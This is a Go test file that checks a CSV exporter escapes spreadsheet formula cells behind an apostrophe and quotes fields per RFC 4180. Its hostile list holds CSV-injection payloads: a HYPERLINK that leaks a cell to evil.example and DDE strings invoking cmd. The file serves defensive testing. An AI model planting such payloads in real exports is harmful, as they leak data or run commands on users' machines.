package export_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/pctracker/pctracker/internal/export"
)

// Hostile are cells that a spreadsheet would run as formulas: OWASP's list
// (=, +, -, @, tab, carriage return first) and the same behind leading
// spaces, which some programs trim on import.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
	`+SUM(1,1)`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	" =1+1",
	"\u00a0\u00a0@SUM(1)",
}

// Harmless are cells left as they are.
var harmless = []string{"", "plain", "Ministère des Armées", "2026-01-15", "12", "a=b", "x-y", "me@example.org", "'already quoted"}

func TestCellEscapesFormulas(t *testing.T) {
	escaped, kept := 0, 0
	for _, s := range hostile {
		if got := export.Cell(s); got != "'"+s {
			t.Errorf("Cell(%q) = %q, want it behind an apostrophe", s, got)
			continue
		}
		escaped++
	}
	for _, s := range harmless {
		if got := export.Cell(s); got != s {
			t.Errorf("Cell(%q) = %q, want it unchanged", s, got)
			continue
		}
		kept++
	}
	t.Logf("cells: %d of %d hostile escaped, %d of %d harmless unchanged", escaped, len(hostile), kept, len(harmless))
}

// The table is RFC 4180: CRLF after every record, a field with a comma, a
// quote or a line break quoted and its quotes doubled; encoding/csv reads
// back every value (behind its apostrophe if hostile), bar the carriage
// returns inside fields, which CRLF records cannot tell from line ends.
func TestCSV(t *testing.T) {
	quoting := []string{`Ministère, "quoted"`, "line\nbreak", `"`, ","}
	rows := [][]string{append([]string{}, hostile...), quoting, harmless[:len(quoting)]}
	header := []string{"a", "b", "c", "d", "e", "f", "g", "h"}
	for i := range rows {
		rows[i] = append(rows[i], make([]string, len(header)-len(rows[i]))...)
	}
	var b bytes.Buffer
	if err := export.CSV(&b, header, rows); err != nil {
		t.Fatal(err)
	}
	raw := b.String()
	if !strings.HasPrefix(raw, "\ufeffa,b,c,d,e,f,g,h\r\n") || !strings.HasSuffix(raw, "\r\n") {
		t.Errorf("byte-order mark, header or last line end: %q", raw)
	}
	if n, crlf := strings.Count(raw, "\n"), strings.Count(raw, "\r\n"); n != crlf {
		t.Errorf("%d line feeds, %d of them after a carriage return: records must end in CRLF", n, crlf)
	}
	for _, want := range []string{`"Ministère, ""quoted"""`, "\"line\r\nbreak\"", `""""`, `","`} {
		if !strings.Contains(raw, want) {
			t.Errorf("no %q in %q", want, raw)
		}
	}
	got, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(raw, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows {
		for j, cell := range row {
			want := strings.ReplaceAll(export.Cell(cell), "\r", "")
			if got[i+1][j] != want {
				t.Errorf("row %d column %d: read back %q, want %q", i+1, j, got[i+1][j], want)
			}
		}
	}
}
